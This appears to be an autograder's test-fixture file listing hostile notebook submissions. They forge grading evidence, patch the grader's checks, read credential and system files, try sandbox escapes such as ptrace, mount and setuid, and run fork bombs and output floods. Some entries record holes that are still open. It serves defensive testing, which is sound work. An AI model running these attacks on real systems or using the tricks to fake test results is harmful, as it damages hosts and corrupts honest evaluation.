@@ -1,0 +1,912 @@
+"""Hostile submissions: what a clever student who has read the grader's source might hand in.
+
+Each is a real notebook. `honest` is what it would earn without the attack. In the students' code,
+`attempt(what, function)` prints TRIED when it is prevented, and WON when it is not.
+"""
+
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+import nbformat
+from nbformat import NotebookNode
+
+from autograder.house import ROOT
+from autograder.sample_class import Submission
+from autograder.sandbox.limits import MIB, Limits
+
+QUICK = Limits(cell=3, submission=15)
+SHORT = Limits(cell=1.5, submission=12)
+SMALL = Limits(cell=3, submission=12, memory=900 * MIB)
+
+TOOLS = """
+def tried(*said): print("TRI" "ED", *said)
+def won(*said): print("W" "ON", *said)
+def attempt(what, function):
+    try: got = function()
+    except BaseException as error: tried(what, type(error).__name__)
+    else: won(what, repr(got)[:200])
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A hostile submission, and what must hold when it has been graded.
+
+    Attributes:
+        honest: the points it would have without the attack.
+        extra: cells of the student's own, after the set-up cell.
+        cells: what the attack puts into solution cells.
+        base: "blank" or "solution": what the other solution cells hold.
+        costs: whether the attack may cost the student points.
+        says: words that the notebook's outputs have to hold, so that the attack was really run.
+        flag: words that the flags for the instructor have to hold.
+        edit: what is done to the notebook as a file.
+        hole: why it succeeds, until that is mended; empty if it does not.
+    """
+
+    honest: float = 0
+    extra: tuple[str, ...] = ()
+    cells: dict[str, str] = field(default_factory=dict)
+    base: str = "blank"
+    assignment: str = "hw2-tanh"
+    limits: Limits = QUICK
+    costs: bool = False
+    says: tuple[str, ...] = ()
+    flag: str = ""
+    edit: Callable[[NotebookNode], None] | None = None
+    hole: str = ""
+
+    def notebook(self) -> NotebookNode:
+        """The notebook that is handed in."""
+        given = ("eve", self.assignment, "", [], self.base, "jupyter", dict(self.cells))
+        notebook = Submission(*given).notebook()
+        place = [cell.id for cell in notebook.cells].index("setup") + 1
+        sources = (TOOLS, *self.extra) if self.extra else ()
+        notebook.cells[place:place] = [
+            nbformat.v4.new_code_cell(source, id=f"eve-{i}") for i, source in enumerate(sources)
+        ]
+        if self.edit:
+            self.edit(notebook)
+        return notebook
+
+
+FULL = {"hw1-cosh": 30, "hw2-tanh": 21}
+
+
+def harm(code: str, **more) -> Attack:
+    """A right solution with a cell that tries to do harm."""
+    more = {"says": ("TRIED",)} | more
+    return Attack(FULL["hw2-tanh"], (code,), base="solution", **more)
+
+
+# What a student's kernel runs in place of a check.
+
+NO_EFFECT = {
+    "an input transformer that empties every cell": """
+get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
+""",
+    "an AST transformer that empties every cell": """
+import ast
+class Empty(ast.NodeTransformer):
+    def visit(self, node):
+        if isinstance(node, ast.Module): node.body = []
+        return node
+get_ipython().ast_transformers.append(Empty())
+""",
+    "tracebacks that are not shown": """
+get_ipython().showtraceback = lambda *a, **k: None
+get_ipython()._showtraceback = lambda *a, **k: None
+""",
+    "an agent that displays nothing": """
+import agent.agent
+agent.agent.show = lambda request: None
+""",
+    "an agent that prints that all is right": """
+import agent.agent
+agent.agent.show = lambda request: print("Right: all gradients. 4 of 4 points.")
+""",
+    "checks of the student's own": """
+check_gradients = check_node = check_results = check_blanks = lambda *a, **k: 4.0
+import course, course.checks
+course.check_gradients = course.checks.check_gradients = check_gradients
+""",
+    "exercises that swallow errors": """
+import contextlib, course.exercise
+exercise = course.exercise.exercise = lambda title: contextlib.suppress(BaseException)
+""",
+    "summaries and outcomes that are made up": """
+import course.exercise
+course.exercise.outcomes = {"2a Add": True}
+def record_outcome(*a, **k): return 4.0
+""",
+    "scaffold classes that were redefined": """
+class Leaf(Leaf):
+    def __init__(self, value, name=None):
+        super().__init__(value, name)
+        self.result = self.gradient = 1.0
+class Exp(Exp):
+    def forward(self): self.result = 1.0
+    def backward(self): return [1.0]
+""",
+    "nodes whose attributes lie": """
+class Anything(float):
+    def __eq__(self, other): return True
+    def __hash__(self): return 1
+    def __sub__(self, other): return 0.0
+    __rsub__ = __sub__
+ComputationNode.result = property(lambda self: Anything(1.0), lambda self, value: None)
+ComputationNode.gradient = property(lambda self: Anything(1.0), lambda self, value: None)
+""",
+    "torch that finds all things close": """
+import torch
+torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda self, other: True
+""",
+    "numpy and math that find all things close": """
+import math, numpy
+numpy.allclose = math.isclose = lambda *a, **k: True
+numpy.testing.assert_allclose = lambda *a, **k: None
+""",
+    "builtins that lie": """
+import builtins
+builtins.isinstance = lambda thing, kind: True
+builtins.float = lambda thing=0: 1.0
+builtins.getattr = lambda *a: 1.0
+builtins.print = lambda *a, **k: None
+""",
+    "a recording that makes up calls": """
+import agent.agent, contextlib
+from course.record import Call
+@contextlib.contextmanager
+def recording(graph):
+    yield [Call(n, m, 1.0, [1.0] * len(n.input_nodes), True)
+           for m in ("forward", "backward") for n in graph.sorted_nodes()]
+agent.agent.recording = recording
+""",
+    "an evidence whose errors are struck out": """
+import json
+dumps = json.dumps
+def clean(thing):
+    if type(thing) is dict: return {k: clean(v) for k, v in thing.items() if k != "error"}
+    return [clean(each) for each in thing] if type(thing) is list else thing
+json.dumps = lambda thing, **k: dumps(clean(thing), **k)
+""",
+    "evidence with a guessed nonce before the real one": """
+import agent.agent
+from IPython.display import display
+def before(info):
+    for nonce in ("", "0" * 32, None):
+        text = agent.agent.json.dumps({"nonce": nonce, "answers": [{}]})
+        display({agent.agent.MIME: {"evidence": text}}, raw=True)
+get_ipython().events.register("pre_run_cell", before)
+""",
+    "evidence with the nonce that stands in the cell": """
+import agent.agent, json, re
+from IPython.display import display
+def before(info):
+    asked = re.search(r"agent.agent.show\\((.*)\\)", info.raw_cell, re.S)
+    if asked:
+        asked = json.loads(eval(asked[1]))
+        answers = [{"defined": a["names"]} if "names" in a else {} for a in asked["acts"]]
+        text = json.dumps({"nonce": asked["nonce"], "answers": answers})
+        display({agent.agent.MIME: {"evidence": text}}, raw=True)
+get_ipython().events.register("pre_run_cell", before)
+""",
+    "evidence with the nonce of a frame further up": """
+import agent.agent, sys
+def answer(self, acts):
+    asked = sys._getframe(1).f_locals["asked"]
+    text = sys.modules["json"].dumps({"nonce": asked["nonce"], "answers": [{}] * len(acts)})
+    display({agent.agent.MIME: {"evidence": text}}, raw=True)
+    get_ipython().user_ns["In"].append("")
+    return [{}] * len(acts)
+agent.agent.Agent.answer = answer
+""",
+    "a module agent of the student's own": """
+import sys, types
+agent = types.ModuleType("agent"); agent.agent = types.ModuleType("agent.agent")
+agent.agent.show = lambda request: 4.0
+sys.modules["agent"], sys.modules["agent.agent"] = agent, agent.agent
+""",
+    "a thread that writes into later cells": """
+import threading, time
+kernel = get_ipython().kernel
+def publish():
+    while True:
+        try:
+            send, at = kernel.session.send, {"parent": kernel.get_parent()}
+            content = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
+            send(kernel.iopub_socket, "execute_result", content, **at)
+            send(kernel.iopub_socket, "clear_output", {"wait": False}, **at)
+        except Exception: pass
+        time.sleep(0.005)
+threading.Thread(target=publish, daemon=True).start()
+""",
+    "a kernel that says it is done before it is": """
+import time
+kernel = get_ipython().kernel
+def before(info):
+    at = {"parent": kernel.get_parent()}
+    content = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
+    kernel.session.send(kernel.iopub_socket, "execute_result", content, **at)
+    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, **at)
+get_ipython().events.register("pre_run_cell", before)
+""",
+}
+POST_RUN = """
+from IPython.display import publish_display_data
+def after(result):
+    get_ipython().displayhook(NUMBER)
+    kernel = get_ipython().kernel
+    content = {"data": {"text/plain": str(NUMBER)}, "metadata": {}, "execution_count": 1}
+    at = {"parent": kernel.get_parent()}
+    kernel.session.send(kernel.iopub_socket, "execute_result", content, **at)
+get_ipython().events.register("post_run_cell", after)
+"""
+for number in ('float("nan")', "-1", "99", "4.0", 'float("inf")'):
+    NO_EFFECT[f"{number} as the result of every cell"] = POST_RUN.replace("NUMBER", number)
+
+# Evidence that no agent sends. `forge(nonce, acts)` is the text displayed.
+
+FORGED = {
+    "no answers": "told(nonce, [])",
+    "an answer too few": "told(nonce, claims(acts, {})[:-1])",
+    "empty answers": "told(nonce, claims(acts, {}))",
+    "answers that are lists": "told(nonce, [[] for _ in acts])",
+    "answers that are a number": "told(nonce, 99)",
+    "evidence that is a list": "json.dumps([nonce])",
+    "evidence that is a number": '"99"',
+    "evidence that is no text": '{"nonce": nonce, "answers": []}',
+    "evidence of five megabytes": 'told(nonce, ["x" * 5_000_000])',
+    "evidence of almost too many characters": 'told(nonce, claims(acts, {"x": "x" * 40_000}))',
+    "evidence nested a hundred thousand deep": (
+        '\'{"nonce": "\' + nonce + \'", "answers": \' + "[" * 100_000 + "]" * 100_000 + "}"'
+    ),
+    "NaN and Infinity": ("told(nonce, claims(acts, {'result': math.nan, 'returned': [1e999]}))"),
+    "integers of ten thousand digits": (
+        """told(nonce, claims(acts, {"result": "HUGE"})).replace('"HUGE"', "9" * 10_000)"""
+    ),
+    "keys that are there twice": (
+        """told(nonce, claims(acts, {})).replace("{}", '{"results": [], "results": [1, 1]}')"""
+    ),
+    "lists where numbers belong": (
+        "told(nonce, claims(acts, {'results': [[1]] * 9, 'gradients': [[1]] * 9, 'result': [1]}))"
+    ),
+    "a million calls": (
+        "told(nonce, claims(acts, {}))[:-2] + "
+        """', {"calls": [' + ",".join(['[0,"forward",null,null,true]'] * 30_000) + "]}]}" """
+    ),
+    "nine thousand calls in each answer": (
+        "told(nonce, claims(acts, {'calls': [[0, 'backward', 1.0, [1.0], True]] * 2_000}))"
+    ),
+    "calls of nodes that are not there": (
+        "told(nonce, claims(acts, {'calls': [[-1, 'forward', None, None, True]]}))"
+    ),
+    "tensors whose shape is a lie": (
+        "told(nonce, claims(acts, {'result': {'shape': [4096, 4096], 'data': [1]}, 'results': "
+        "[{'shape': [0, 10**9], 'data': []}] * 9}))"
+    ),
+    "nothing but skipped acts": "told(nonce, claims(acts, {'skipped': True}))",
+    "names that are not there, said to be": (
+        "told(nonce, [{'defined': ['Add', 'Mul', 'x'], 'error': None}] * len(acts))"
+    ),
+    "errors that end a loop": "told(nonce, claims(acts, {'error': {'kinds': ['StopIteration']}}))",
+    "errors that end a program": (
+        "told(nonce, claims(acts, {'error': {'kinds': ['SystemExit', 'KeyboardInterrupt']}}))"
+    ),
+    "errors with names that are no names": (
+        "told(nonce, claims(acts, {'error': {'kinds': ['a b', 'ExceptionGroup', "
+        "'UnicodeDecodeError'], 'text': '{0}%s' * 999, 'frames': ['x'] * 20}}))"
+    ),
+    "an error that is the grader's own": (
+        "told(nonce, claims(acts, {'error': {'kinds': ['TookTooLong']}}))"
+    ),
+}
+FORGE = """
+import agent.agent, json, math
+from IPython.display import display
+def told(nonce, answers): return json.dumps({"nonce": nonce, "answers": answers})
+def claims(acts, each): return [{"defined": a["names"]} if "names" in a else each for a in acts]
+def show(request):
+    asked = json.loads(request)
+    nonce, acts = asked["nonce"], asked["acts"]
+    display({agent.agent.MIME: {"evidence": TEXT}}, raw=True)
+agent.agent.show = show
+"""
+
+# Engines and nodes that do not do what they are to do.
+
+DIFFERENCES = """
+def forward_algorithm(graph):
+    for node in graph.sorted_nodes(): node.forward()
+    return graph
+def gradients(graph, one):
+    nodes, found = graph.sorted_nodes(), []
+    kept = [node.result for node in nodes]
+    def put():
+        for node, result in zip(nodes, kept): node.result = result
+    def at(i, h):
+        put()
+        nodes[i].result = kept[i] + h
+        for node in nodes[i + 1 :]:
+            if node.input_nodes: type(node).forward(node)
+        return graph.result
+    for i in range(len(nodes)):
+        h = 1e-3
+        once, twice = at(i, h) - at(i, -h), at(i, 2 * h) - at(i, -2 * h)
+        found.append((8 * once - twice) / (12 * h) * one)
+    put()
+    return found
+"""
+NEVER_UPSTREAM = (
+    DIFFERENCES
+    + """
+def backward_algorithm(graph, one=1.0):
+    nodes = graph.sorted_nodes()
+    for node in nodes: node.gradient = None
+    for node in nodes[::-1]:
+        try: node.backward()
+        except TypeError: pass
+    for node, gradient in zip(nodes, gradients(graph, one)): node.gradient = gradient
+"""
+)
+FORGED_RETURNS = (
+    DIFFERENCES
+    + """
+def backward_algorithm(graph, one=1.0):
+    nodes = graph.sorted_nodes()
+    found = gradients(graph, one)
+    for node, gradient in zip(nodes, found): node.gradient = gradient
+    for node in nodes[::-1]: node.backward()
+for kind in (Exp, Mean, Negate, IntPow, HalfDifference):
+    kind.backward = lambda self: [1.0 for _ in self.input_nodes]
+"""
+)
+BY_AUTOGRAD = """
+import torch
+class Mul(ComputationNode):
+    def forward(self): self.result = self.input(0) * self.input(1)
+    def backward(self):
+        given = [torch.tensor(float(self.input(i)), requires_grad=True, dtype=torch.float64)
+                 for i in (0, 1)]
+        (given[0] * given[1]).backward()
+        return [float(each.grad) * self.gradient for each in given]
+"""
+MUL = """
+class Mul(ComputationNode):
+    calls = 0
+    def forward(self):
+        Mul.calls += 1
+        FORWARD
+        self.result = self.input(0) * self.input(1)
+    def backward(self):
+        BACKWARD
+        return [self.gradient * self.input(1), self.gradient * self.input(0)]
+"""
+
+
+def mul(forward: str = "pass", backward: str = "pass", **more) -> Attack:
+    """A right solution whose Mul does something else besides, which costs the points of Mul."""
+    source = MUL.replace("FORWARD", forward).replace("BACKWARD", backward)
+    return Attack(17, cells={"mul": source}, base="solution", **more)
+
+
+LYING = """
+class Liar:
+    __class__ = property(lambda self: float)
+    def __eq__(self, other): return True
+    def __float__(self): return float("nan")
+    def __abs__(self): return 0.0
+    def __sub__(self, other): return 0.0
+    def __array__(self, *a): raise SystemExit
+    def __reduce__(self): return (print, ("WO" "N",))
+    def __repr__(self): raise KeyboardInterrupt
+class Array:
+    __array_interface__ = {"shape": (10**12,), "typestr": "<f8", "data": (1, True), "version": 3}
+class Text(str):
+    def __eq__(self, other): return True
+    def __hash__(self): return 0
+    def __str__(self): return self
+class Blanks(dict):
+    def get(self, name, default=None): return Liar()
+    def items(self): return [(name, Text("right")) for name in self]
+    def __getitem__(self, name): return Liar()
+"""
+BLANKS = {
+    "linear": LYING + "linear = Blanks(df_dx=Liar(), df_dy=Liar(), x_up=Liar(), both_up=Liar())",
+    "sinh-formula": 'dz_dx = "9^9^9^9^9"',
+    "forward-by-hand": (
+        'forward_pass = {"a": Text("log(2)x"), "b": "(" * 10**5, "c": 10**4000, "d": [1], '
+        '"e": {"a": 1}, "z": Array}'
+    ),
+    "backward-by-hand": (
+        'backward_pass = {"z": "z" * 10**6, "e": "-" * 199, "d": "__import__", "c": "1/0", '
+        '"b": "inf", "a": "nan", "x": "(" * 150 + "1" + ")" * 49}'
+    ),
+}
+
+
+# What is done to the file.
+
+
+def _each_graded(change: Callable[[NotebookNode], object]) -> Callable[[NotebookNode], None]:
+    def edit(notebook: NotebookNode) -> None:
+        for cell in notebook.cells:
+            if cell.metadata.get("nbgrader", {}).get("grade"):
+                change(cell)
+
+    return edit
+
+
+def _grade_own_cell(notebook: NotebookNode) -> None:
+    own = nbformat.v4.new_code_cell("1000")
+    own.metadata["nbgrader"] = {
+        "grade": True,
+        "grade_id": "bonus",
+        "locked": False,
+        "points": 1000,
+        "schema_version": 3,
+        "solution": False,
+        "task": False,
+    }
+    notebook.cells.append(own)
+
+
+def _copy_checks(notebook: NotebookNode) -> None:
+    for cell in list(notebook.cells):
+        if cell.metadata.get("nbgrader", {}).get("grade"):
+            copied = nbformat.v4.new_code_cell("4.0", metadata=cell.metadata)
+            notebook.cells.append(copied)
+            notebook.cells.insert(1, nbformat.from_dict(copied | {"id": copied.id[::-1]}))
+
+
+def _without_result(cell: NotebookNode) -> None:
+    cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "4.0"})]
+
+
+EDITS = {
+    "points that were raised": _each_graded(lambda c: c.metadata.nbgrader.update(points=1000)),
+    "checks that were unlocked": _each_graded(
+        lambda c: (c.metadata.nbgrader.update(locked=False, solution=True), c.update(source="4.0"))
+    ),
+    "checks that are not checks any more": _each_graded(
+        lambda c: c.metadata.nbgrader.update(grade=False)
+    ),
+    "checks of another source": _each_graded(lambda c: c.update(source="4.0")),
+    "checks that are to be skipped": _each_graded(
+        lambda c: c.metadata.update(tags=["skip-execution", "raises-exception"])
+    ),
+    "checks without their metadata": _each_graded(lambda c: c.metadata.clear()),
+    "results that were saved in the file": _each_graded(_without_result),
+    "a graded cell of the student's own": _grade_own_cell,
+    "copies of the checks": _copy_checks,
+}
+
+# Looking for answers. Nothing in a right solution is to be found.
+
+FORBIDDEN = (
+    "autograder", "solutions", "tests", "course.twin", "course.cases", "course.clues", "course.run",
+    "course.formula", "agent.judge", "autograder.judge.plan", "notebooks", "benchmarks",
+)  # fmt: skip
+SEARCHES = {
+    "modules that know answers": f"""
+import importlib, sys
+for name in {FORBIDDEN!r}:
+    attempt(name, lambda: importlib.import_module(name))
+import course.misconceptions
+if course.misconceptions._data() != {{"mistakes": {{}}, "signatures": {{}}}}: won("misconceptions")
+if [name for name in sys.modules if name.startswith("autograder")]: won("loaded")
+""",
+    "files of the house": f"""
+import os, site
+root = {str(ROOT)!r}
+for path in ("solutions", "solutions/hw2-tanh.py", "README.md", "course", "autograder", ".git",
+             "notebooks", "build", "class", "tests", "course/misconceptions.json"):
+    attempt(path, lambda: os.stat(os.path.join(root, path)))
+for folder, folders, files in os.walk(root):
+    folders[:] = [f for f in folders if f not in ("site-packages", "bin", "include", "share")]
+    won(folder) if [f for f in files if f.endswith((".py", ".ipynb", ".db"))] else None
+for place in site.getsitepackages():
+    for name in ("course", "autograder", "solutions"):
+        attempt(name, lambda: os.listdir(os.path.join(place, name))[0])
+for folder, _, files in os.walk("/library"):
+    for name in files:
+        if name in ("twin.py", "clues.py", "cases.py", "misconceptions.json", "formula.py"):
+            won(name)
+""",
+    "files of others": """
+import os
+for path in ("/root", "/home", "/mnt", "/srv", "/var", "/etc/passwd", "/etc/shadow", "/work",
+             "/run/user", "/sys", "/media", "/run/docker.sock"):
+    for found in os.listdir(path) if os.path.isdir(path) and os.access(path, os.R_OK) else []:
+        if path != "/work" or found != "main": won(path, found)
+    if os.path.isfile(path): won(path)
+tried("listing")
+""",
+    "processes, environment and the connection file": """
+import os, glob
+for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/mem", "/proc/1/maps",
+             "/proc/self/fd", "/proc/version", "/proc/self/root", "/proc/net/tcp"):
+    attempt(path, lambda: os.stat(path))
+if set(os.environ) - {"PATH", "LANG", "HOME", "TMPDIR", "IPYTHONDIR", "MPLBACKEND", "CLICOLOR",
+    "FORCE_COLOR", "CLICOLOR_FORCE", "PAGER", "GIT_PAGER", "TERM", "PYDEVD_USE_FRAME_EVAL",
+    "KMP_DUPLICATE_LIB_OK", "KMP_INIT_AT_FORK", "JPY_PARENT_PID", "OMP_NUM_THREADS"}:
+    tried("environment", sorted(os.environ))
+for name, value in os.environ.items():
+    if "secret" in value.lower() or "gradebook" in value.lower(): won(name)
+for path in glob.glob("/tmp/**/connection*", recursive=True): won(path)
+for fd in range(3, 256):
+    try: target = os.fstat(fd)
+    except OSError: continue
+    import stat
+    if stat.S_ISDIR(target.st_mode):
+        attempt(f"fd {fd}", lambda: os.listdir(fd))
+""",
+    "objects of the grader": """
+import gc, sys, types
+kinds = {type(o).__module__ for o in gc.get_objects()}
+if [kind for kind in kinds if kind.startswith("autograder")]: won("objects")
+for o in gc.get_objects():
+    if isinstance(o, types.FunctionType) and o.__name__ == "backward_algorithm":
+        if o.__module__ != "__main__": won(o.__module__)
+frame = sys._getframe()
+while frame:
+    if "autograder" in frame.f_code.co_filename or "judge" in frame.f_code.co_filename: won("frame")
+    frame = frame.f_back
+tried("objects")
+""",
+}
+
+# Doing harm.
+
+HARM = {
+    "signals to the parent and to process 1": harm(
+        "import os, signal\n"
+        "for who in (1, os.getppid()):\n"
+        "    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGQUIT,\n"
+        "                   signal.SIGCHLD, signal.SIGUSR1, signal.SIGXCPU, signal.SIGSEGV):\n"
+        "        os.kill(who, number)\n"
+        "tried()"
+    ),
+    "an interrupt to process 1": harm(
+        "import os, signal, time\nos.kill(1, signal.SIGINT)\ntime.sleep(1)\ntried()",
+        hole="the warden keeps Python's own SIGINT handler, so it ends with KeyboardInterrupt",
+        says=(),
+    ),
+    "processor time taken away from process 1": harm(
+        "import resource, time\n"
+        "attempt('prlimit', lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)))\n"
+        "time.sleep(1)",
+        hole="prlimit needs no more than the same user id, and the warden has the kernel's",
+    ),
+    "descriptors taken away from process 1": harm(
+        "import resource\n"
+        "attempt('prlimit', lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0)))",
+        hole="prlimit on the warden; without descriptors it cannot read how much memory is used",
+    ),
+    "a priority taken away from process 1": harm(
+        "import os\n"
+        "attempt('nice', lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))\n"
+        "attempt('idle', lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)))",
+        hole="the warden has the kernel's user id and can be seen by it, as process 1",
+    ),
+    "every process that can be seen": harm("import os\nos.kill(-1, 9)\ntried()", costs=True),
+    "tracing other processes": harm(
+        "import ctypes, os\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "def trace(pid, how):\n"
+        "    if libc.ptrace(how, pid, None, None): raise OSError(ctypes.get_errno(), 'ptrace')\n"
+        "for pid in (1, os.getppid()):\n"
+        "    for how in (16, 0x4206): attempt(f'ptrace {pid}', lambda: trace(pid, how))\n"
+        "    data = (ctypes.c_ulong * 2)(id(data := 0), 8)\n"
+        "    if libc.process_vm_readv(pid, data, 1, data, 1, 0) > 0: won('memory')"
+    ),
+    "namespaces and mounts": harm(
+        "import ctypes, os\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "def done(result):\n"
+        "    if result: raise OSError(ctypes.get_errno(), '')\n"
+        "for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000):\n"
+        "    attempt(hex(flag), lambda: done(libc.unshare(flag)))\n"
+        "attempt('user and mount', lambda: done(libc.unshare(0x10020000)))\n"
+        "for place in (b'/proc', b'/tmp', b'/', b'/usr'):\n"
+        "    attempt('umount', lambda: done(libc.umount2(place, 2)))\n"
+        "    attempt('mount', lambda: done(libc.mount(b'proc', place, b'proc', 0, None)))\n"
+        "attempt('chroot', lambda: os.chroot('/tmp'))\n"
+        "attempt('setns', lambda: done(libc.setns(libc.syscall(434, 1, 0), 0x20000)))"
+    ),
+    "users, devices and setuid programs": harm(
+        "import os, subprocess\n"
+        "for become in (os.setuid, os.setgid, os.seteuid):\n"
+        "    attempt('root', lambda: become(0))\n"
+        "attempt('groups', lambda: os.setgroups([0]))\n"
+        "attempt('device', lambda: os.mknod('/tmp/disk', 0o60600, os.makedev(8, 0)))\n"
+        "for path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/fuse', '/dev/kvm', '/dev/net'):\n"
+        "    attempt(path, lambda: os.open(path, os.O_RDWR))\n"
+        "for program in ('su', 'sudo', 'mount', 'passwd'):\n"
+        "    said = subprocess.run(['sh', '-c', program + ' -c id 2>&1'], stdin=-3, "
+        "capture_output=True, text=True).stdout\n"
+        "    won(said) if 'uid=0' in said else tried(program)"
+    ),
+    "writing where Python and the course are": harm(
+        "import os, sys, torch, course\n"
+        "for folder in (sys.prefix, sys.base_prefix, '/usr', '/etc', '/', '/library', '/run',\n"
+        "               os.path.dirname(torch.__file__), os.path.dirname(course.__file__)):\n"
+        "    attempt(folder, lambda: open(os.path.join(folder, 'left.py'), 'w'))\n"
+        "attempt('chmod', lambda: os.chmod(course.__file__, 0o777))"
+    ),
+    "an end in an own cell": harm("import os\ntried()\nos._exit(0)"),
+    "an end when Python ends": harm(
+        "import atexit, os, signal\n"
+        "atexit.register(lambda: os._exit(3))\n"
+        "for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:\n"
+        "    signal.signal(number, signal.SIG_IGN)\n"
+        "tried()"
+    ),
+    "sleep without end": harm("import time\ntried()\ntime.sleep(1e6)", limits=SHORT),
+    "waiting for somebody to type": harm("tried()\ninput('Full marks?')", limits=SHORT),
+    "a fork bomb": harm(
+        "import os\ntried()\nwhile True:\n    try: os.fork()\n    except OSError: pass",
+        limits=Limits(cell=1.5, submission=12, processes=40),
+        costs=True,
+        says=(),
+    ),
+    "processes that detach": harm(
+        "import os, time\n"
+        "for _ in range(5):\n"
+        "    if os.fork() == 0:\n"
+        "        os.setsid()\n"
+        "        os.fork() and os._exit(0)\n"
+        "        time.sleep(1000)\n"
+        "tried()"
+    ),
+    "threads by the hundred": harm(
+        "import threading, time\n"
+        "def start(): threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n"
+        "try:\n    for i in range(1000): start()\n"
+        "except RuntimeError: tried(i)"
+    ),
+    "a memory bomb": harm(
+        "import numpy\nattempt('memory', lambda: numpy.ones(2**31).sum())", limits=SMALL
+    ),
+    "a disk flood": harm(
+        "import os\n"
+        "def flood(folder):\n"
+        "    for i in range(600):\n"
+        "        with open(f'{folder}/{i}', 'wb', buffering=0) as f:\n"
+        "            if f.write(bytes(2**20)) < 2**20: raise OSError('full')\n"
+        "for folder in ('/tmp', '/run/kernel', '/dev/shm'):\n"
+        "    attempt(folder, lambda: flood(folder))\n"
+        "def one():\n"
+        "    with open('/dev/null' if False else '/tmp/work/one', 'wb', buffering=0) as f:\n"
+        "        f.truncate(2**30)\n"
+        "attempt('one file', one)"
+    ),
+    "sockets that are moved away": harm(
+        "import os, glob\n"
+        "for path in glob.glob('/run/kernel/*'):\n"
+        "    os.rename(path, path + 'x'); os.symlink('/tmp/elsewhere', path)\n"
+        "tried()"
+    ),
+    "printing without end": harm(
+        "tried()\nwhile True: print('x' * 10_000)", costs=True, says=("TRIED",)
+    ),
+    "printing on stderr without end": harm(
+        "import sys\ntried()\nwhile True: print('x' * 10_000, file=sys.stderr)", costs=True
+    ),
+    "pictures without end": harm(
+        "tried()\nwhile True: display({'image/svg+xml': '<svg>' + 'x' * 9_000}, raw=True)",
+        costs=True,
+    ),
+    "a picture that changes without end": harm(
+        "shown = display('x', display_id=True)\ntried()\nwhile True: shown.update('y' * 10_000)",
+        costs=True,
+    ),
+    "a widget that talks without end": harm(
+        "import comm\ntalk = comm.create_comm(target_name='x')\ntried()\n"
+        "while True: talk.send({'x': 'x' * 10_000})",
+        limits=SHORT,
+    ),
+    "one message that is too large": harm("tried()\ndisplay('x' * 20_000_000)", limits=SHORT),
+    "a flood that ends": harm(
+        "tried()\nfor _ in range(2_000): print('x' * 20_000)",
+        hole="when the kernel is killed for its output after the cell has ended, the next cell "
+        "takes that for an end from outside",
+        costs=True,
+    ),
+    "a flood of evidence": harm(
+        "import agent.agent\ntried()\n"
+        "for _ in range(60): display({agent.agent.MIME: {'evidence': 'x' * 3_000_000}}, raw=True)",
+        hole="evidence does not count as output, so all of it is kept in the grader's memory",
+        costs=True,
+    ),
+    "messages that mean nothing": harm(
+        "tried()\nkernel = get_ipython().kernel\n"
+        "at = {'parent': kernel.get_parent()}\n"
+        "for content in ({}, {'data': None}, {'data': 5}, {'name': 5, 'text': 5}):\n"
+        "    for kind in ('display_data', 'stream', 'error', 'update_display_data', 'x'):\n"
+        "        kernel.session.send(kernel.iopub_socket, kind, content, **at)\n"
+        "kernel.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', b'forged', b'{}', b'{'])",
+        costs=True,
+        says=(),
+    ),
+    "an execution count that is no number": harm(
+        "tried()\nkernel = get_ipython().kernel\n"
+        "content = {'code': '', 'execution_count': 'many'}\n"
+        "kernel.session.send(kernel.iopub_socket, 'execute_input', content,"
+        " parent=kernel.get_parent())",
+        hole="a student's cell keeps the execution count that the kernel sent, whatever it is",
+    ),
+    "HTML that runs a script": harm(
+        "from IPython.display import HTML, Javascript\n"
+        "display(HTML('<script>document.title = 1000</script>'), Javascript('alert(1)'))\ntried()"
+    ),
+    "characters that cannot be written": harm(
+        "kernel = get_ipython().kernel\n"
+        "pack = kernel.session.pack\n"
+        "kernel.session.pack = lambda o: pack(o).replace(b'TRIED', b'TRIED' + bytes([92]) + "
+        "b'ud800')\ntried()",
+        hole="text from a kernel may hold lone surrogates, which cannot be written to a file",
+    ),
+    "a blank that cannot be written": Attack(
+        FULL["hw2-tanh"] - 2 / 3,
+        cells={"two-forks-by-hand": 'two_forks = {"c": 1, "b": "\\ud800", "a": 4}'},
+        base="solution",
+        hole="text in evidence may hold lone surrogates; grade() ends with UnicodeEncodeError",
+        costs=True,
+    ),
+    "an end in a solution cell": mul().__class__(
+        17, cells={"mul": "import os\nos._exit(1)"}, base="solution"
+    ),
+    "an end in a check": mul(backward="import os; os._exit(0)"),
+    "a signal in a check": mul(backward="import os, signal; os.kill(os.getpid(), signal.SIGKILL)"),
+    "a loop in a check that nothing interrupts": mul(
+        backward="""
+        import signal
+        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
+            signal.signal(number, signal.SIG_IGN)
+        while True: pass""",
+        limits=SHORT,
+    ),
+    "a loop in a check that swallows everything": mul(
+        backward="""
+        while True:
+            try:
+                while True: pass
+            except BaseException: pass""",
+        limits=SHORT,
+    ),
+    "an exit in a check": mul(backward="raise SystemExit"),
+    "an interrupt in a check": mul(forward="raise KeyboardInterrupt"),
+    "an error whose text is an error": mul(
+        forward="""
+        class Bad(Exception):
+            def __str__(self): raise SystemExit
+        raise Bad"""
+    ),
+    "the grader's own error where no check expects one": mul(
+        forward="""
+        if Mul.calls % 2 == 0: raise type("TookTooLong", (Exception,), {})""",
